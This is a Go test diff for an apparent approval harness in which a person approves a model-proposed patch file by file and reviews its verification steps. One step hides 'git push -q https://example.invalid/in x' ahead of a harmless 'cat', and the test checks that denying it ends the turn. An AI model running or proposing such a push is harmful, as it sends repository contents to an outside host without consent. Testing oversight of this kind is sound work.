@@ -298,6 +298,54 @@ func leUint32(b []byte) uint32 {
 	return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
 }
 
+// Step by step a person is asked about a change to several files by itself, and chooses from them by the same key; what the plan does
+// behind it is asked about afterwards.
+func TestSomeFilesStepByStep(t *testing.T) {
+	m, alice, _ := newAsked(t)
+	d := m.look(t, "demo")
+	d.sh(t, `for f in a.conf b.conf; do printf 'port = 80\nname = a\n' > $f; done`)
+	texts := func() string { return d.sh(t, "head -qn1 a.conf b.conf") }
+	const look = "git push -q https://example.invalid/in x; cat a.conf" // which needs an answer
+	plan := patchOf("workspace demo", portDiff("a.conf")+portDiff("b.conf"), "", "a.conf", "b.conf")
+	plan = strings.Replace(plan, `"verification_commands":[]`, `"verification_commands":[`+string(stepJSON(t, planStep("workspace demo", look, false)))+`]`, 1)
+	mark := m.mark(t)
+	s := m.script(t, always(plan), always(directly("so it is")))
+	x := m.answering(t, alice, "[s] step by step", "s\n")
+	x.Expect("Run it?  [y] once  [f] choose among its files")
+	if got := texts(); got != "port = 80\nport = 80" {
+		t.Errorf("before an answer to the step: %q", got)
+	}
+	x.Type("f\n")
+	for i, key := range []string{"n\n", "y\n"} {
+		x.Expect(fmt.Sprintf("%d of 2: change %c.conf?", i+1, 'a'+i))
+		x.Type(key)
+	}
+	x.ExpectAfter("left as they are: a.conf", "2. verification, workspace ")
+	if got := texts(); got != "port = 80\nport = 8080" {
+		t.Errorf("after an answer to the step: %q", got)
+	}
+	x.ExpectAfter("2. verification, workspace ", question)
+	x.Type("n\nthat is enough\n")
+	x.Expect("not approved")
+	x.Wait()
+	if said := s.said(); len(said) != 1 { // a denial ends the turn
+		t.Errorf("the model was told %q", last(said))
+	}
+	m.recorded(t, mark, `"type":"approval"`, `"kind":"steps"`)
+	m.recorded(t, mark, `"type":"approval"`, `"kind":"files"`, `"files":["b.conf"]`)
+	m.recorded(t, mark, `"kind":"plan.run"`, `"from":1,"whole":2`, "change 1 of 2 files", " files by uid:")
+	m.recorded(t, mark, `"kind":"patch.apply"`, `"files":["/home/work/b.conf"]`)
+}
+
+func stepJSON(t *testing.T, step map[string]any) []byte {
+	t.Helper()
+	b, err := json.Marshal(step)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
 // A person lets some files of a change through, at the question or by its id: those alone are changed, the model is told which
 // were left out, and the record has the smaller plan with its own digest.
 func TestSomeFilesOfAPatch(t *testing.T) {
